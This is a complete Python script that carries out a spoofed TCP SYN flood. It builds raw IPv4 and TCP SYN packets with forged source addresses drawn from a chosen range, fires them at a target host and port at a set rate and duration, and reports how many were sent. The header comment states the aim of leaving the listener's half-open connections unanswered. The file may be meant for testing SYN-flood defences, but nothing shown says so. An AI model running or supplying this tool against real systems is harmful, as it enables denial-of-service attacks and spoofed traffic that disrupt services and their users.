# Sends raw TCP SYNs (IPv4) to HOST:PORT at RATE per second for SECONDS, from source
# addresses PREFIX.LOW..PREFIX.HIGH that no host answers for: their SYN-ACKs go nowhere,
# so the listener's half-open connections stay, as in a spoofed SYN flood. Prints the
# number of SYNs sent.
import random, socket, struct, sys, time

host, port, rate, seconds, prefix, low, high = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]), sys.argv[5], int(sys.argv[6]), int(sys.argv[7])

def checksum(data):
    if len(data) % 2:
        data += b'\0'
    s = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    s = (s >> 16) + (s & 0xffff)
    s += s >> 16
    return ~s & 0xffff

sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
dst = socket.inet_aton(host)
sent = 0
end = time.monotonic() + seconds
while time.monotonic() < end:
    src = socket.inet_aton('%s.%d' % (prefix, random.randint(low, high)))
    sport = random.randint(20000, 60000)
    tcp = struct.pack('!HHIIBBHHH', sport, port, random.getrandbits(32), 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = src + dst + struct.pack('!BBH', 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack('!H', checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0, 64, socket.IPPROTO_TCP, 0, src, dst)
    sock.sendto(ip + tcp, (host, 0))
    sent += 1
    time.sleep(1.0 / rate)
print(sent)
